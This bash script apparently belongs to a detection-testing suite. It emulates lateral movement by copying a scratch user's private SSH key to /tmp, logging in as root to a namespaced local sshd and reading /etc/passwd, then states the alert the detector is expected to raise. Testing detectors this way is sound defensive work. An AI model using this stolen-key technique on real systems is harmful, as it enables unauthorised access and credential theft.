#!/bin/bash
# vigil-emulation: attack
# technique: T1021.004 Remote Services: SSH; T1552.004 Unsecured Credentials: Private Keys
# tactic: lateral-movement, credential-access
# what: lateral movement with a stolen key: root copies a scratch user's private key
#   (whose public half the "next host" accepts) to /tmp and uses it with `ssh -i` to log
#   in to a private sshd on the far end of a veth pair (198.18.x.2, a network namespace),
#   running `hostname; id; cat /etc/passwd | head -3` there.
# report: a user's private SSH key copied and used by another account to log in to
#   another host.
# expect: lateral|stolen key|private key|ssh key
# timeout: 90
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
. "$EMUL_LIB/ssh.sh"
emul_need sshd ssh ip

user=vigil-emul-deploy
emul_user "$user"
emul_veth_pair
emul_sshd "$EMUL_NS" "$EMUL_PEER_IP"
emul_setup_dir "/home/$user/.ssh" 700 "$user:$user"
emul_setup_file "/home/$user/.ssh/id_ed25519" 600 "$user:$user" "$EMUL_SSH_KEY"
sleep 0.5
emul_tmpdir
cp "/home/$user/.ssh/id_ed25519" "$EMUL_DIR/.k"
chmod 600 "$EMUL_DIR/.k"
ssh "${_emul_ssh_opts[@]}" -o BatchMode=yes -i "$EMUL_DIR/.k" -p "$EMUL_SSHD_PORT" \
    "root@$EMUL_PEER_IP" 'hostname; id; cat /etc/passwd | head -3' </dev/null
emul_sshd_flush
